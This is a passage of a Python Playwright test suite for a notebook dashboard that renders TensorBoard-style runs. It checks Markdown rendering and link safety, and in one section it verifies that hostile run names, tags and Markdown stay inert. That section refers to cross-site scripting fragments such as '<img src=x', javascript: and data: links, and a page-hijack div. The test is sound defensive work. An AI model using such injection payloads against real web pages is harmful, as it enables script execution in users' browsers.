    expect(card.locator(".tbnb-step-text")).to_contain_text(re.compile(r"^step 0\b"))
    expect(card.locator("audio")).not_to_have_attribute("src", src)
    expect(card.locator("audio")).to_have_attribute("src", re.compile(r"^blob:"))
    s.page.keyboard.press("End")


# --------------------------------------------------------------------------------------------------
# 5. Text (set from Python): Markdown rendered and sanitised, every step listed
# --------------------------------------------------------------------------------------------------


def _item(card, step: int):
    """The text item of ``step`` in a text card."""
    return card.locator(".tbnb-text-item").filter(has=card.page.locator(".tbnb-text-step", has_text=re.compile(rf"^step {step}\b")))


def _check_markdown(item, step: int) -> None:
    """``notes_markdown(step)`` rendered in ``item``: a heading, a table, a list, code, and one
    link that opens a new tab without opener or referrer."""
    from playwright.sync_api import expect

    expect(item).to_have_count(1)
    expect(item.locator("h2")).to_have_text(f"Run notes, step {step}")
    expect(item.locator("th")).to_have_text(["param", "value"])
    for value in ("lr", f"{0.1 / (step + 1):g}", "batch", "64"):
        expect(item.locator("td").filter(has_text=re.compile(rf"^{re.escape(value)}$"))).to_have_count(1)
    expect(item.locator("li")).to_have_text([f"first point of step {step}", "second point"])
    expect(item.locator(":not(pre) > code")).to_have_text("train_step()")
    expect(item.locator("pre code")).to_contain_text("print('hello')")
    link = item.locator("a")
    expect(link).to_have_count(1)
    expect(link).to_have_text("the docs")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("target", "_blank")
    rel = link.get_attribute("rel") or ""
    assert {"noopener", "noreferrer"} <= set(rel.split()), rel


def test_text_from_python(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    run_cell(s.page, NB, C_TEXT)
    s.show_tab(cell, "text", click=False)
    # torch's tag in both runs, the rank-0 tag in run_a.
    expect(s.cards(cell, "text")).to_have_count(len(RUNS) + 1)
    card = s.card(cell, "text", TEXT_RANK0, RUNS[0])
    card.scroll_into_view_if_needed()
    # Latest step first; each step its own text.
    expect(card.locator(".tbnb-text-step")).to_have_text([re.compile(rf"^step {st}\b") for st in TEXT_STEPS[::-1]])
    expect(card.locator(".tbnb-markdown")).to_have_count(len(TEXT_STEPS))
    for step in TEXT_STEPS:
        _check_markdown(_item(card, step), step)
    texts = card.locator(".tbnb-markdown").all_inner_texts()
    assert texts[0] != texts[1]
    for run in RUNS:  # torch's text: every step listed, the text of its own step
        card = s.card(cell, "text", TEXT_TORCH, run)
        expect(card.locator(".tbnb-text-step")).to_have_text([re.compile(rf"^step {st}\b") for st in TEXT_STEPS[::-1]])
        for step in TEXT_STEPS:
            expect(_item(card, step)).to_contain_text(f"first point of step {step}")


def test_torch_text_renders_markdown(nb: Dash):
    """torch's ``add_text`` (the writer most notebook users have) writes a [1] string tensor.
    TensorBoard renders every cell of a rank-1/2 text tensor as Markdown
    (text_plugin.text_array_to_html: ``markdowns_to_safe_html`` over the cells, then the table),
    so torch's text shows as Markdown in TensorBoard. The Board must render it too."""
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    if s.tab(cell, "text").get_attribute("aria-selected") != "true":
        s.show_tab(cell, "text")
    card = s.card(cell, "text", TEXT_TORCH, RUNS[0])
    card.scroll_into_view_if_needed()
    expect(card.locator(".tbnb-text-item")).to_have_count(len(TEXT_STEPS))
    for step in TEXT_STEPS:
        item = _item(card, step)
        shown = item.inner_text()
        assert item.locator("h2, li, th").count() > 0, (
            f"{s.front_end}: torch's add_text (a [1] string tensor) of step {step} is shown as raw "
            f"Markdown source in a table cell, not rendered: {shown[:120]!r}"
        )
        _check_markdown(item, step)


# --------------------------------------------------------------------------------------------------
# 6. Hostile content stays inert text
# --------------------------------------------------------------------------------------------------

HOVER_JS = "(card) => { const h = card.querySelector('.hoverlayer'); return h ? h.textContent : ''; }"


def _hover(s: Dash, card) -> str:
    """Move the mouse over the chart until plotly shows a hover label; return its text."""
    card.scroll_into_view_if_needed()
    area = card.locator(".nsewdrag").first
    box = area.bounding_box()
    for fx in (0.5, 0.3, 0.7, 0.2, 0.8, 0.4, 0.6):
        for fy in (0.5, 0.3, 0.7, 0.9):
            s.page.mouse.move(box["x"] + fx * box["width"], box["y"] + fy * box["height"])
            s.page.wait_for_timeout(60)
            text = card.evaluate(HOVER_JS)
            if text:
                return text
    return ""


def test_hostile_content_is_inert(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_HOSTILE
    board = s.board(cell)
    board.evaluate("(el) => el.scrollIntoView({block: 'start'})")
    hovered = {}
    for tab in TABS:
        s.show_tab(cell, tab)
        if tab == "scalars":
            card = board.locator(".tbnb-section:not(.tbnb-pinned) .tbnb-card").first
            hovered[tab] = _hover(s, card)
        if tab == "histograms":
            card = s.cards(cell, "histograms").first
            hovered[tab] = _hover(s, card)
        if tab == "text":
            screenshot(s.page, f"dash-hostile-text-{s.front_end}")
        if tab == "images":
            screenshot(s.page, f"dash-hostile-images-{s.front_end}")
    s.page.mouse.move(0, 0)
    assert s.state()["hostile"] == TABS[-1], "the clicked tab reached the kernel"

    # Nothing ran.
    assert s.dialogs == [], f"dialogs opened: {s.dialogs}"
    assert s.pwned() == 0, f"window.__pwned = {s.pwned()!r}"
    # The names are text wherever they are shown.
    names = board.locator(".tbnb-run-name").all_text_contents()
    assert HOSTILE in names, names
    # Hover labels (plotly, which takes HTML-ish text) show the name as text too.
    assert HOSTILE in hovered["histograms"] and HOSTILE in hovered["scalars"], hovered

    s.show_tab(cell, "scalars")
    titles = board.locator(".tbnb-card-title").all_text_contents()
    assert any("<img src=x" in t for t in titles) and HOSTILE in titles, titles
    # The data table under a scalar card: the run names are text, the marker's label a number.
    expect(board.locator(".tbnb-data-table .tbnb-run-cell").filter(has_text=HOSTILE).first).to_be_attached()
    assert HOSTILE in board.locator(".tbnb-data-table .tbnb-run-cell").all_text_contents()
    expect(board.locator(".tbnb-data-table img")).to_have_count(0)
    s.show_tab(cell, "histograms")
    runs = board.locator(".tbnb-card-run").all_text_contents()
    assert HOSTILE in runs, runs

    s.show_tab(cell, "images")
    for tag in ("evil/svg", "evil/svg_tf2"):
        card = board.locator(".tbnb-card-images").filter(has=s.page.locator(f'.tbnb-card-title[title="{tag}"]'))
        expect(card).to_have_count(1)
        expect(card.locator(".tbnb-placeholder.tbnb-unsupported")).to_have_text(re.compile(r"^Unsupported image"))
        expect(card.locator("img, svg:not(.tbnb-icon), object, embed, iframe")).to_have_count(0)
    titles = board.locator(".tbnb-card-title").all_text_contents()
    assert f"{HOSTILE}/image" in titles, titles
    hostile_img = board.locator(".tbnb-card-images").filter(has_text="/image").locator(".tbnb-items img")
    expect(hostile_img).to_have_count(1)
    s.page.wait_for_function("(i) => i.complete && i.naturalWidth > 0", arg=hostile_img.element_handle())

    s.show_tab(cell, "audio")
    card = board.locator(".tbnb-card-audio").filter(has=s.page.locator('.tbnb-card-title[title="evil/html_audio"]'))
    expect(card.locator(".tbnb-placeholder.tbnb-unsupported")).to_have_text(re.compile(r"^Unsupported audio"))
    expect(card.locator("audio")).to_have_count(0)
    card = board.locator(".tbnb-card-audio").filter(has=s.page.locator('.tbnb-card-title[title="evil/big_audio"]'))
    expect(card.locator(".tbnb-placeholder.tbnb-too_large")).to_contain_text("too large")
    expect(card.locator(".tbnb-placeholder.tbnb-too_large")).to_contain_text("max_blob_bytes")

    s.show_tab(cell, "text")
    card = board.locator(".tbnb-card-text").filter(has=s.page.locator('.tbnb-card-title[title="evil/big"]'))
    expect(card.locator(".tbnb-placeholder.tbnb-too_large")).to_have_text(
        re.compile(r"^Text too large to show: 4.9 KB \(the limit is 2 KB: max_blob_bytes\)$"))
    card = board.locator(".tbnb-card-text").filter(has=s.page.locator('.tbnb-card-title[title="evil/markdown"]'))
    md = card.locator(".tbnb-markdown")
    expect(md).to_have_count(1)
    expect(md.locator("h1")).to_have_text("Hostile notes")
    expect(md.locator("strong")).to_have_text("still bold")
    expect(md).to_contain_text("a safe link")
    # The javascript: and data: links are left as text; the only href is the https one, opening
    # a new tab without opener or referrer (its onclick and target=_self gone).
    for text in ("click me", "jump", "data link"):
        expect(md).to_contain_text(text)
    hrefs = md.locator("a").evaluate_all("(as) => as.map((a) => a.getAttribute('href'))")
    assert [h for h in hrefs if h is not None] == ["https://example.com/ok"], hrefs
    link = md.locator("a[href]")
    expect(link).to_have_attribute("target", "_blank")
    assert {"noopener", "noreferrer"} <= set((link.get_attribute("rel") or "").split())
    # The hijack <div> lost its style, id and class (nothing is positioned over the page).
    expect(md.locator("#hijack, .jp-Dialog, [style]")).to_have_count(0)
    assert s.page.evaluate("() => getComputedStyle(document.body).display") != "none"
    card = board.locator(".tbnb-card-text").filter(has=s.page.locator(f'.tbnb-card-title[title="{HOSTILE}/text"]'))
    expect(card.locator(".tbnb-card-title")).to_have_text(f"{HOSTILE}/text")
    expect(card.locator(".tbnb-markdown strong")).to_have_text("text")
    # torch's form of the same Markdown (a one-element list) is rendered and sanitised the same way.
    card = board.locator(".tbnb-card-text").filter(has=s.page.locator('.tbnb-card-title[title="torch/text_summary"]'))
    torch_md = card.locator(".tbnb-markdown")
    expect(torch_md.locator("h1")).to_have_text("Hostile notes")
    expect(torch_md.locator("script, iframe, form, style, svg")).to_have_count(0)

    # A custom-scalars layout: category and chart titles are text, the invalid regex is an error
    # on that chart, whose valid (hostile) regex still matches the hostile scalar tag.
    s.show_tab(cell, "custom_scalars")
    expect(board.locator(".tbnb-custom-category > summary b")).to_have_text([HOSTILE])
    chart = board.locator(".tbnb-card-custom-chart")
    expect(chart.locator(".tbnb-card-title")).to_have_text(HOSTILE)
    expect(chart.locator(".tbnb-chart-errors")).to_contain_text(f"invalid regular expression '{HOSTILE_REGEX}'")
    s.page.wait_for_function("(p) => Array.isArray(p.data) && p.data.length === 4",
                             arg=chart.locator(".js-plotly-plot").element_handle())  # two runs, raw + smoothed
    expect(chart.locator("b, img")).to_have_count(0)
    screenshot(s.page, f"dash-hostile-custom_scalars-{s.front_end}")
    # HParams: the hostile hparam name, value and metric name are text in the table and in the
    # parallel coordinates' labels.
    s.show_tab(cell, "hparams")
    card = board.locator('.tbnb-card[data-kind="hparams"]')
    expect(card.locator(".tbnb-hp-grid tbody tr")).to_have_count(1)
    cells = card.locator(".tbnb-hp-grid tbody td").all_text_contents()
    assert HOSTILE in cells, cells
    heads = card.locator(".tbnb-hp-grid thead th").all_text_contents()
    assert HOSTILE in heads and f"metric/{HOSTILE}" in heads, heads
    plot = card.locator(".tbnb-hp-parcoords.js-plotly-plot")
    expect(plot).to_have_count(1)
    labels = plot.evaluate("(p) => [...p.querySelectorAll('text')].map((t) => t.textContent)")
    assert HOSTILE in labels and f"metric/{HOSTILE}" in labels, labels
    ticks = plot.evaluate("(p) => [...p.querySelectorAll('.tick text')].map((t) => t.textContent)")
    assert HOSTILE in ticks and not any("&lt;" in t or "&gt;" in t for t in labels), (ticks, labels)
    expect(card.locator("img, script, iframe")).to_have_count(0)
    board.evaluate("(el) => el.scrollIntoView({block: 'start'})")
    screenshot(s.page, f"dash-hostile-hparams-{s.front_end}")
    # The projector: hostile metadata column names and values are option, legend and table text.
    s.show_tab(cell, "projector")
    proj = board.locator(".tbnb-projector")
    expect(proj.locator(".tbnb-pj-status")).to_have_text("6 points", timeout=60_000)
    colour = proj.locator("select[title='Colour by']")
    assert f"Colour: {HOSTILE}" in colour.locator("option").all_text_contents()
    colour.select_option(HOSTILE)
    legend = proj.locator(".tbnb-pj-legend")
    expect(legend).to_contain_text(f"{HOSTILE} (3)")
    expect(legend).to_contain_text("<b>bold</b> (3)")
    expect(legend.locator("img, b")).to_have_count(0)
    screenshot(s.page, f"dash-hostile-projector-{s.front_end}")
    # The graph explorer: node, op and attribute names are SVG/HTML text.
    s.show_tab(cell, "graphs")
    graph = board.locator(".tbnb-card-graph")
    scope = graph.locator(f'.tbnb-gnode[data-id="{HOSTILE_SCOPE}"]')
    expect(scope).to_have_count(1, timeout=60_000)
    expect(scope.locator("title").first).to_contain_text(HOSTILE_SCOPE)
    expect(scope.locator(".tbnb-glabel")).to_contain_text("<img src=x")
    scope.locator(".tbnb-gtoggle").click()
    node = graph.locator(f'.tbnb-gnode[data-id="{HOSTILE_NODE}"]')
    expect(node).to_have_count(1, timeout=30_000)
    node.click()
    info = graph.locator(".tbnb-graph-info")
    expect(info.locator(".tbnb-graph-info-id")).to_have_text(HOSTILE_NODE, timeout=30_000)
    expect(info.locator(".tbnb-graph-props td").first).to_have_text(HOSTILE_OP)
    expect(info.locator(".tbnb-graph-attrs")).to_contain_text(HOSTILE_ATTR)
    graph.locator(".tbnb-graph-searchbox").fill("pwned")
    expect(graph.locator(".tbnb-graph-match").first).to_be_visible(timeout=30_000)
    expect(graph.locator("b, img, script, foreignObject")).to_have_count(0)
    screenshot(s.page, f"dash-hostile-graphs-{s.front_end}")
    assert s.dialogs == [] and s.pwned() == 0

    # Nothing anywhere in either board can run, navigate, submit or restyle the page.
    for c in (C_SHOW, C_HOSTILE):
        bad = s.board(c).evaluate(AUDIT_JS)
        assert not bad, f"board of cell {c}:\n" + "\n".join(bad)
    n_style = s.page.evaluate("() => [...document.querySelectorAll('.tbnb style:not(.tbnb-graph-style)')].length")
    n_boards = s.page.evaluate("() => document.querySelectorAll('.tbnb').length")
    assert n_style == n_boards, (n_style, n_boards)
    assert s.page.locator("iframe[srcdoc], form[action*='evil']").count() == 0
    assert s.dialogs == [] and s.pwned() == 0
    assert_only_loopback(s.log)


# --------------------------------------------------------------------------------------------------
# 7. A look at every dashboard, and the page's hygiene over the whole module
# --------------------------------------------------------------------------------------------------


def test_screenshots_and_hygiene(nb: Dash):
    s, cell = nb, C_SHOW
    board = s.board(cell)
    paths = []
    for tab in TABS:
        s.show_tab(cell, tab)
        board.evaluate("(el) => el.scrollIntoView({block: 'start'})")
        s.page.mouse.move(0, 0)
        s.page.wait_for_timeout(300)
        paths.append(screenshot(s.page, f"dash-{tab}-{s.front_end}"))
    assert all(p.is_file() and p.stat().st_size > 10_000 for p in paths)
    assert s.dialogs == [], s.dialogs
    assert s.pwned() == 0
    assert_no_js_errors(s.log)
    assert_only_loopback(s.log)
    assert any(u.startswith(s.server.url) for u in s.log.requests)
